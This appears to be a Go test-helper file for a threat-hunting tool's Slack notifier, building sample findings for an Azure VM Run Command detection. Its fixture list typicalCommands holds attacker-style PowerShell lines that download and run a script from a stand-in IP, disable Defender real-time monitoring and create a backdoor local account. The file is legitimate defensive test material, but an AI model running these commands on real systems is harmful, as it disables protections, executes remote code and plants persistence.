package slack

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/huntwatch/huntwatch/handler/hunt"
)

// runCommandHunt is the bundled Run Command hunt, as far as messages are concerned.
func runCommandHunt() *hunt.Hunt {
	return &hunt.Hunt{
		ID:         "55fbc363-6cc9-4201-bd68-d980b612082b",
		Name:       "Azure VM Run Command linked with MDE",
		Severity:   "Medium",
		Tactics:    []string{"LateralMovement", "CredentialAccess"},
		Techniques: []string{"T1570", "T1078.004"},
		Entities: []hunt.EntityMapping{
			{EntityType: "Account", FieldMappings: []hunt.FieldMapping{{Identifier: "FullName", ColumnName: "Caller"}}},
			{EntityType: "IP", FieldMappings: []hunt.FieldMapping{{Identifier: "Address", ColumnName: "CallerIpAddress"}}},
			{EntityType: "Host", FieldMappings: []hunt.FieldMapping{{Identifier: "HostName", ColumnName: "VirtualMachineName"}}},
			{EntityType: "AzureResource", FieldMappings: []hunt.FieldMapping{{Identifier: "ResourceId", ColumnName: "ResourceId"}}},
		},
	}
}

const (
	testSub = "6f3c2f0e-1a2b-4c5d-9e8f-0a1b2c3d4e5f"
	testVM  = "/subscriptions/" + testSub + "/resourceGroups/rg-prod-web/providers/Microsoft.Compute/virtualMachines/vm-web-01"
)

var testTime = time.Date(2025, 3, 14, 9, 26, 53, 0, time.UTC)

// runCommandFinding is one row of the bundled hunt with the given PowerShell commands, in the
// order they ran (and sorted, as the hunt fingerprints them).
func runCommandFinding(commands []string) *hunt.Finding {
	ts := func(d time.Duration) string { return testTime.Add(d).Format(time.RFC3339Nano) }
	var sorted []string
	if commands != nil {
		sorted = slices.Compact(slices.Sorted(slices.Values(commands)))
	}
	return &hunt.Finding{
		Fingerprint: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
		Occurrence:  "c1f0a6de-7b1c-4e4f-9a55-2d0c8e7b1a33",
		Time:        testTime,
		Fields: []hunt.Field{
			{Name: "TimeGenerated", Type: "datetime", Text: ts(0)},
			{Name: "StartTime", Type: "datetime", Text: ts(0)},
			{Name: "EndTime", Type: "datetime", Text: ts(41 * time.Second)},
			{Name: "CorrelationId", Type: "string", Text: "c1f0a6de-7b1c-4e4f-9a55-2d0c8e7b1a33"},
			{Name: "Caller", Type: "string", Text: "alice.admin@contoso.com"},
			{Name: "CallerIpAddress", Type: "string", Text: "203.0.113.47"},
			{Name: "SubscriptionId", Type: "string", Text: testSub},
			{Name: "ResourceGroup", Type: "string", Text: "rg-prod-web"},
			{Name: "VirtualMachineName", Type: "string", Text: "vm-web-01"},
			{Name: "ResourceId", Type: "string", Text: testVM},
			{Name: "OperationNameValue", Type: "string", Text: "MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMAND/ACTION"},
			{Name: "ActivityStatus", Type: "string", Text: "Success"},
			{Name: "DeviceName", Type: "string", Text: "vm-web-01.contoso.internal"},
			{Name: "DeviceId", Type: "string", Text: "4b1c9e0f2a7d4c3b8e6f1a2b3c4d5e6f7a8b9c0d"},
			{Name: "PowershellFileName", Type: "string", Text: "script3.ps1"},
			{Name: "PowershellFileSize", Type: "long", Text: "1284"},
			{Name: "PowershellExecStart", Type: "datetime", Text: ts(12 * time.Second)},
			{Name: "PowershellExecEnd", Type: "datetime", Text: ts(38 * time.Second)},
			{Name: "PowershellCommandsInOrder", Type: "dynamic", List: commands},
			{Name: "PowershellScriptCommands", Type: "dynamic", List: sorted},
			{Name: "CommandCount", Type: "long", Text: fmt.Sprint(len(commands))},
			{Name: "ScriptFingerprintHash", Type: "string", Text: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"},
		},
	}
}

var typicalCommands = []string{
	"Get-LocalUser",
	"Get-LocalGroupMember -Group Administrators",
	"Invoke-WebRequest -Uri http://198.51.100.23/a.ps1 -OutFile $env:TEMP\\a.ps1",
	"Set-MpPreference -DisableRealtimeMonitoring $true",
	"& $env:TEMP\\a.ps1 -Target 'dc01' > $null",
	"New-LocalUser -Name 'svc_backup' -Password (ConvertTo-SecureString 'P@ss`w0rd' -AsPlainText -Force)",
}

var (
	testVMs     = []string{"vm-web-01", "vm-web-02", "vm-db-01", "vm-build-07", "vm-jump-01"}
	testCallers = []string{"alice.admin@contoso.com", "bob.ops@contoso.com", "svc-deploy@contoso.com"}
)

// manyFindings returns n findings of the Run Command hunt (see manyFinding).
func manyFindings(n int) []*hunt.Finding {
	out := make([]*hunt.Finding, n)
	for i := range out {
		out[i] = manyFinding(i)
	}
	return out
}

// manyFinding is the i-th finding (from 0) of a flood of the Run Command hunt, each its own
// fingerprint and occurrence, spread over VMs, callers, IPs and minutes.
func manyFinding(i int) *hunt.Finding {
	f := runCommandFinding(typicalCommands)
	f.Fingerprint = fmt.Sprintf("%064x", i+1)
	f.Occurrence = fmt.Sprintf("00000000-0000-4000-8000-%012d", i+1)
	f.Time = testTime.Add(time.Duration(i) * time.Minute)
	f.Fields[0].Text = f.Time.Format(time.RFC3339Nano)
	f.Fields[3].Text = f.Occurrence
	f.Fields[4].Text = testCallers[i%len(testCallers)]
	f.Fields[5].Text = fmt.Sprintf("10.0.%d.%d", i/250, i%250)
	f.Fields[8].Text = testVMs[i%len(testVMs)]
	f.Fields[9].Text = strings.TrimSuffix(testVM, "vm-web-01") + testVMs[i%len(testVMs)]
	f.Fields[21].Text = f.Fingerprint
	return f
}

// blockTexts returns the text objects of blocks as Slack received them, one after another.
func blockTexts(t *testing.T, blocks json.RawMessage) string {
	t.Helper()
	var v any
	if err := json.Unmarshal(blocks, &v); err != nil {
		t.Fatalf("blocks %s: %v", blocks, err)
	}
	var out []string
	var walk func(v any)
	walk = func(v any) {
		switch x := v.(type) {
		case map[string]any:
			if s, ok := x["text"].(string); ok {
				out = append(out, s)
			}
			for k, e := range x {
				if k != "text" {
					walk(e)
				}
			}
			if o, ok := x["text"].(map[string]any); ok {
				walk(o)
			}
		case []any:
			for _, e := range x {
				walk(e)
			}
		}
	}
	walk(v)
	return strings.Join(out, "\n")
}
